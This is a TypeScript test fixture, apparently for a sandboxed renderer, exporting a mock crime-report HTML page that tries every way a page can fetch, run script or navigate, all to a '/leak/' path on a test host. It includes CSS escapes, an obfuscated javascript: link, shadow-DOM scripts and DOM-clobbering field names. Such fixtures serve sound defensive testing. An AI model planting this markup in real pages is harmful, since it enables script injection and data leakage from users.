/** A form that tries whatever a page can try. */
import { HOST } from './policing.ts';

/** All that a page can fetch, run or lead to, and names that take those of the browser's functions. */
export const HOSTILE = `<!doctype html><html><head><title>Crime report 12/3456/26</title>
<base href="http://${HOST}/leak/"><meta http-equiv="refresh" content="0;url=http://${HOST}/leak/refresh">
<link rel="stylesheet" href="http://${HOST}/leak/css"><link rel="preconnect" href="http://${HOST}">
<style>@import "http://${HOST}/leak/import"; body { background: url(http://${HOST}/leak/bg) }
h1 { background: u\\72l(http://${HOST}/leak/escaped) } h2 { background: image-set("http://${HOST}/leak/set" 1x) }</style>
<script src="http://${HOST}/leak/script"></script><script>document.title = 'ran'</script></head>
<body onload="document.title='ran'" background="http://${HOST}/leak/body">
<img src="http://${HOST}/leak/img" onerror="document.title='ran'" name="body">
<img srcset="http://${HOST}/leak/set 1x" id="rightToReport"><iframe src="http://${HOST}/leak/frame"></iframe>
<svg><image href="http://${HOST}/leak/svg"/><use xlink:href="http://${HOST}/leak/use#x"/></svg>
<video poster="http://${HOST}/leak/poster" src="http://${HOST}/leak/video"></video>
<object data="http://${HOST}/leak/object"></object><embed src="http://${HOST}/leak/embed">
<div><template shadowrootmode="open"><img src="http://${HOST}/leak/shadow"><script>document.title='ran'</script>
<style>:host { background: url(http://${HOST}/leak/host) }</style></template></div>
<h1>Crime report</h1><h2>Persons</h2>
<form action="http://${HOST}/leak/form" method="post" id="f"><fieldset><legend>Victim 1</legend>
<input name="id"><input name="closest">
<a id="link" href="http://${HOST}/leak/pnc" ping="http://${HOST}/leak/ping">PNC check</a>
<a id="script" href="java&#9;script:document.title='ran'">Notes</a>
<a id="away" href="http://${HOST}/leak/away" target="_top">Help</a>
<button id="send" formaction="http://${HOST}/leak/send">Check immigration status</button></fieldset>
<button id="chrome">Save</button></form>
<form><input name="parentElement"><input name="getAttribute"><input name="localName"><input name="getRootNode">
<fieldset><legend>Witness 1</legend><button id="named">PNC check</button></fieldset></form></body></html>`;
